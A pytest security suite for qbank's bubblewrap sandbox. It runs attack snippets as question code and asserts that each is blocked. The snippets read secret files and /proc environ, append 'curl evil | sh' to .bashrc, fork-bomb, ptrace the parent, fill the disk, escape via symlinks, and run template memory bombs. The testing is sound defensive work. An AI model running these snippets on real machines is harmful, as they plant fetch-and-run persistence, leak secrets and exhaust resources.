"""Bank code cannot touch the machine it runs on: each attack is a bank snippet, run by `generate` as every bank's
code is, and must fail its variant with a message that says what it tried, leaving no trace. The attacks that are
harmless without the sandbox are run with `sandbox=False` too, where they succeed: so each check can fail."""

from __future__ import annotations

import os
import platform
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from qbank import generate, load_bank
from qbank.generate import Generation
from qbank.runner import Job, WorkerPool
from qbank.sandbox import Bubblewrap, SandboxUnavailable, runtime_folders, seccomp_filter

from .conftest import QBANK

SECRET = f"secret-{uuid.uuid4().hex}"


@dataclass
class Target:
    """The machine as an attacker would find it: planted files, a server on loopback, a watched signal."""

    home: Path
    project: Path
    out: Path
    tmp_file: Path
    port: int
    connections: list[bytes]
    signals: list[int]


@pytest.fixture
def target(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Target]:
    home, project, out = tmp_path / "home", tmp_path / "project", tmp_path / "out"
    for folder in (home, project, out):
        folder.mkdir()
    (home / "secret.txt").write_text(SECRET)
    (home / ".bashrc").write_text("# the teacher's own\n")
    (project / "secret.txt").write_text(SECRET)
    monkeypatch.setenv("QBANK_TEST_SECRET", SECRET)
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    connections: list[bytes] = []
    stopping = threading.Event()

    def serve() -> None:
        while not stopping.is_set():
            try:
                peer, _ = server.accept()
            except OSError:
                continue
            with peer:
                peer.settimeout(2)
                try:
                    connections.append(peer.recv(100))
                except OSError:
                    connections.append(b"")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    signals: list[int] = []
    previous = signal.signal(signal.SIGUSR1, lambda number, frame: signals.append(number))
    tmp_file = Path("/tmp") / f"qbank-attack-{uuid.uuid4().hex}"
    try:
        yield Target(home, project, out, tmp_file, server.getsockname()[1], connections, signals)
    finally:
        stopping.set()
        thread.join()
        server.close()
        signal.signal(signal.SIGUSR1, previous)
        tmp_file.unlink(missing_ok=True)


def _bank(tmp_path: Path, attacks: dict[str, str]) -> Path:
    """A bank with one Predict Output question per attack, whose code is the attack."""
    questions = []
    for name, code in attacks.items():
        body = textwrap.dedent(code).strip("\n").replace("\\", "\\\\").replace('"""', '\\"\\"\\"')
        questions.append(
            f'[[questions]]\nid = "{name}"\ntitle = "{name}"\ncategory = "Predict Output"\ntype = "short_answer"\n'
            f'difficulty = "beginner"\ntime_limit = 30\nstem = "What does it print?"\nexplanation = "x"\n'
            f'answer = {{ kind = "stdout" }}\ncode = """\n{body}\n"""\n'
        )
    path = tmp_path / "attacks.toml"
    path.write_text('id = "attacks"\ntitle = "Attacks"\n\n' + "\n".join(questions))
    return path


def _run(tmp_path: Path, attacks: dict[str, str], *, sandbox: bool = True) -> Generation:
    return generate(load_bank(str(_bank(tmp_path, attacks))), 1, 0, sandbox=sandbox)


def _reasons(result: Generation) -> dict[str, str]:
    return {failure.question_id: failure.reason for failure in result.failures}


def _printed(result: Generation) -> dict[str, str]:
    return {variant.question_id: variant.outcome.stdout for variant in result.variants}  # type: ignore[union-attr]


def _reading(t: Target) -> dict[str, str]:
    """Attacks that only read or reach: harmless without the sandbox, where they succeed."""
    return {
        "home_file": f"print(open({str(t.home / 'secret.txt')!r}).read())",
        "project_file": f"print(open({str(t.project / 'secret.txt')!r}).read())",
        "environment": "import os\nprint(os.environ['QBANK_TEST_SECRET'])",
        "parent_environment": f"print(open('/proc/{os.getpid()}/environ', 'rb').read().decode(errors='replace'))",
        "tcp_server": f"import socket\nsocket.create_connection(('127.0.0.1', {t.port}), timeout=2).sendall(b'hi')\n"
        "print('sent')",
        "write_planted": f"open({str(t.out / 'planted.txt')!r}, 'w').write('x')\nprint('written')",
        "write_tmp": f"open({str(t.tmp_file)!r}, 'w').write('x')\nprint('written')",
        "signal_parent": f"import os, signal\nos.kill({os.getpid()}, signal.SIGUSR1)\nprint('signalled')",
    }


def test_reading_attacks_fail_in_the_sandbox_and_succeed_without_it(tmp_path: Path, target: Target) -> None:
    attacks = _reading(target)
    sandboxed = _run(tmp_path, attacks)
    reasons = _reasons(sandboxed)
    assert set(reasons) == set(attacks), reasons
    for name in ("home_file", "project_file", "parent_environment"):
        assert "the sandbox does not let the code open /" in reasons[name]
    assert "KeyError" in reasons["environment"]  # nothing inherited: the variable is not there at all
    assert (
        f"the sandbox does not let the code use the network (look up 127.0.0.1:{target.port})" in reasons["tcp_server"]
    )
    assert "the sandbox does not let the code write " + str(target.out) in reasons["write_planted"]
    assert "the sandbox does not let the code write /tmp/" in reasons["write_tmp"]
    assert f"the sandbox does not let the code signal process {os.getpid()}" in reasons["signal_parent"]
    assert SECRET not in repr(sandboxed)
    assert not target.connections and not target.signals
    assert not (target.out / "planted.txt").exists() and not target.tmp_file.exists()

    trusted = _run(tmp_path, attacks, sandbox=False)
    assert not trusted.failures, trusted.failures
    printed = _printed(trusted)
    for name in ("home_file", "project_file", "environment"):
        assert SECRET in printed[name]
    assert "PATH=" in printed["parent_environment"]
    assert target.connections == [b"hi"] and target.signals == [signal.SIGUSR1]
    assert (target.out / "planted.txt").exists() and target.tmp_file.exists()


def test_writing_and_process_attacks_fail_and_leave_nothing(tmp_path: Path, target: Target) -> None:
    bashrc = target.home / ".bashrc"
    before = bashrc.read_text()
    marker = str(70_000 + os.getpid() % 10_000)  # a `sleep` no other process has
    secret = str(target.home / "secret.txt")
    fork_call = 57 if platform.machine() == "x86_64" else 220  # fork; clone(SIGCHLD) on aarch64
    attacks = {
        "bashrc": f"open({str(bashrc)!r}, 'a').write('curl evil | sh')",
        "proc_1": "print(open('/proc/1/environ', 'rb').read())",
        "dns": "import socket\nprint(socket.getaddrinfo('example.com', 443))",
        "fork_bomb": "import os\nwhile True:\n    os.fork()",
        "raw_fork": f"import ctypes\nwhile True:\n    ctypes.CDLL(None).syscall({fork_call}, 17, 0, 0, 0, 0)",
        "trace_parent": f"import ctypes\nprint(ctypes.CDLL(None).ptrace(16, {os.getpid()}, 0, 0))",
        "daemon": f"import subprocess\nsubprocess.Popen(['sleep', '{marker}'], start_new_session=True)",
        "big_file": "with open('big', 'wb') as f:\n    for _ in range(200):\n        f.write(b'x' * 1024 * 1024)",
        "fill_disk": "for i in range(100):\n    with open(f'part{i}', 'wb') as f:\n        f.write(b'x' * 1024 * 1024)",
        "symlink_read": f"import os\nos.symlink({secret!r}, 'link')\nprint(open('link').read())",
        "symlink_write": f"import os\nos.symlink({str(bashrc)!r}, 'link2')\nopen('link2', 'a').write('evil')",
        "raw_open": f"import ctypes\nprint(ctypes.CDLL(None).open({secret.encode()!r}, 0))",
        "leave_note": "open('note.txt', 'w').write('from another snippet')\nprint('left')",
        "read_note": "import os\nprint(os.listdir('.'))\nprint(open('note.txt').read())",
    }
    result = _run(tmp_path, attacks)
    reasons = _reasons(result)
    printed = _printed(result)
    assert "the sandbox does not let the code write " + str(bashrc) in reasons["bashrc"]
    assert "the sandbox does not let the code open /proc/1/environ" in reasons["proc_1"]
    assert "the sandbox does not let the code use the network (look up example.com:443)" in reasons["dns"]
    assert "the sandbox does not let the code start a process (os.fork)" in reasons["fork_bomb"]
    assert "stopped by the sandbox: the code tried to start a process or to trace one" in reasons["raw_fork"]
    assert "stopped by the sandbox" in reasons["trace_parent"]
    assert "the sandbox does not let the code start a process (subprocess.Popen)" in reasons["daemon"]
    assert "larger than the sandbox's limit of 64 MB" in reasons["big_file"]
    assert "the code filled the 64 MB the sandbox lets it write" in reasons["fill_disk"]
    assert f"open {secret}" in reasons["symlink_read"]
    assert f"write {bashrc}" in reasons["symlink_write"]
    # Past the audit hook (a C call), the file is simply not there: the sandbox, not the hook, is the barrier.
    assert printed["raw_open"].strip() == "-1"
    assert printed["leave_note"] == "left\n"
    assert "FileNotFoundError" in reasons["read_note"]  # each snippet starts in an empty folder
    assert set(reasons) == set(attacks) - {"raw_open", "leave_note"}
    assert bashrc.read_text() == before and SECRET not in repr(result)
    leftovers = subprocess.run(["pgrep", "-f", f"sleep {marker}"], capture_output=True, text=True, check=False)
    assert leftovers.stdout == ""


def test_the_built_in_banks_run_the_same_in_the_sandbox(tmp_path: Path) -> None:
    bank = load_bank("gru_workshop")
    sandboxed, trusted = generate(bank, 3, 4), generate(bank, 3, 4, sandbox=False)
    assert not sandboxed.failures
    assert [v.model_dump() for v in sandboxed.variants] == [v.model_dump() for v in trusted.variants]


def test_outcomes_made_without_the_sandbox_are_not_served_to_it(tmp_path: Path) -> None:
    from qbank.store import OutcomeStore

    job = Job("import os\nprint(os.environ.get('QBANK_TEST_SECRET'))")
    os.environ["QBANK_TEST_SECRET"] = SECRET
    try:
        with WorkerPool(1, OutcomeStore(tmp_path), sandbox=False) as pool:
            assert SECRET in pool.run([job])[job.key].stdout
        with WorkerPool(1, OutcomeStore(tmp_path)) as pool:
            assert pool.run([job])[job.key].stdout == "None\n" and pool.runs == 1
    finally:
        del os.environ["QBANK_TEST_SECRET"]


def test_without_a_sandbox_qbank_refuses_in_one_paragraph(tmp_path: Path) -> None:
    bank = _bank(tmp_path, {"hello": "print('hello')"})
    env = {**os.environ, "QBANK_BWRAP": str(tmp_path / "no-bwrap-here"), "QBANK_CACHE": "off"}
    run = [QBANK, "generate", str(bank), "--out", str(tmp_path / "out")]
    refused = subprocess.run(run, env=env, capture_output=True, text=True, check=False)
    assert refused.returncode == 1 and refused.stdout == ""
    message = refused.stderr.strip()
    assert message.startswith("qbank: error: qbank runs a bank's code in a sandbox (bubblewrap)")
    assert "\n" not in message and "--no-sandbox" in message and "Traceback" not in message
    assert not (tmp_path / "out").exists()
    trusted = subprocess.run([*run, "--no-sandbox"], env=env, capture_output=True, text=True, check=False)
    assert trusted.returncode == 0, trusted.stderr
    with pytest.raises(SandboxUnavailable, match="no-bwrap-here"):  # a QbankError: the CLI says it in one line
        Bubblewrap(binary=str(tmp_path / "no-bwrap-here")).check()


def test_the_sandbox_sees_only_the_runtime() -> None:
    """What is bound read-only: the interpreter and the folders of torch, never the project or a home folder."""
    folders = runtime_folders()
    assert any(Path(folder, "torch").is_dir() or Path(folder).name == "torch" for folder in folders) or any(
        (Path(folder) / "lib").is_dir() for folder in folders
    )
    project = str(Path(__file__).resolve().parent.parent)
    assert all(folder != project and not project.startswith(folder + "/") for folder in folders)
    args = Bubblewrap().arguments()
    for needed in ("--unshare-net", "--unshare-pid", "--unshare-user", "--disable-userns", "--die-with-parent"):
        assert needed in args
    filter_bytes = seccomp_filter("x86_64")
    assert len(filter_bytes) % 8 == 0 and len(filter_bytes) // 8 < 64


BOMBS = {
    "string": "{{ 'a' * 10**10 }}",
    "list": "{{ ([0] * 10**9)|length }}",
    "number": "{{ 10 ** 1000000000 }}",
    "padding": "{{ '%10000000000d'|format(1) }}",
    "doubling": "{% set ns = namespace(s='ab') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}"
    "{{ ns.s|length }}",
    "loops": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
}


@pytest.mark.parametrize("command", ["validate", "generate"])
def test_template_bombs_fail_their_variant_within_bounded_memory(tmp_path: Path, command: str) -> None:
    questions = []
    for name, bomb in BOMBS.items():
        where = "code" if command == "validate" else "stem"
        text = f"x = '{bomb}'\nprint(x)" if where == "code" else bomb + " {{ n }}"
        questions.append(
            f'[[questions]]\nid = "{name}"\ntitle = "t"\ncategory = "Predict Output"\ntype = "short_answer"\n'
            f'difficulty = "beginner"\ntime_limit = 30\nexplanation = "x"\nanswer = {{ kind = "stdout" }}\n'
            f'params = {{ n = {{ type = "choice", values = [1, 2] }} }}\n'
            + (f'stem = "?"\ncode = """\n{text}\n"""\n' if where == "code" else f"stem = {text!r}\ncode = 'print(1)'\n")
        )
    for name in BOMBS:
        path = tmp_path / f"{name}.toml"
        chosen = next(q for q in questions if f'id = "{name}"' in q)
        path.write_text(f'id = "bomb_{name}"\ntitle = "Bombs"\n\n{chosen}')
        run = [QBANK, command, str(path)]
        if command == "generate":
            run += ["--out", str(tmp_path / "out"), "--no-cache"]
        done = subprocess.run(
            [sys.executable, "-c", _MEASURE, *run], capture_output=True, text=True, timeout=120, check=False
        )
        peak, returncode = (int(part) for part in done.stdout.split())
        assert returncode == 1, (name, done.stderr)
        assert peak < 500 * 1024 * 1024, (name, peak)
        said = done.stderr.strip().splitlines()
        assert said and all("Traceback" not in line for line in said), (name, done.stderr)
        assert any(
            phrase in done.stderr
            for phrase in ("needs more than 256 MB", "would hold", "more than 100,000 bits", "took longer than")
        ), (name, done.stderr)
        if command == "generate":
            assert "variant failed" in done.stderr and not (tmp_path / "out").exists()


#: Runs a command, then prints the most memory it held (bytes) and its exit code: the qbank process alone.
_MEASURE = """
import os, subprocess, sys
process = subprocess.Popen(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=None)
_, status, usage = os.wait4(process.pid, 0)
print(usage.ru_maxrss * 1024, os.waitstatus_to_exitcode(status))
"""
